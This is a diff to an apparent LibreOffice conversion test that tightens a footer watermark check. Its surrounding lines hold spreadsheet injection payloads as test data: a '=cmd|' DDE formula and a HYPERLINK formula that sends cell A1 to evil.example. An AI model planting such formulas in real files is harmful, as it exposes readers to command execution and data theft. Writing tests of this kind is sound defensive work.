@@ -127,7 +127,8 @@ describe.skipIf(!soffice)('LibreOffice (skipped where soffice is not installed)'
     expect(flat).toContain('=cmd|');
     expect(running(flat)).toEqual([]);
     // The mark is on the printed page and in the properties as LibreOffice knows them.
-    expect(flat).toMatch(new RegExp(`<style:footer[^]*${serial}`));
+    const feet = [...flat.matchAll(/<style:footer>[\s\S]*?<\/style:footer>/g)].map(([foot]) => foot.replace(/<[^>]*>/g, ''));
+    expect(feet.filter((foot) => foot.includes(serial))).toHaveLength(1);
     expect(flat).toContain(`meta:name="ShengguiSerial"`);
     convert('sheet.xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false');
     expect(readFileSync(join(folder, 'sheet.csv'), 'utf8')).toContain('=HYPERLINK(""http://evil.example/?q=""&A1');
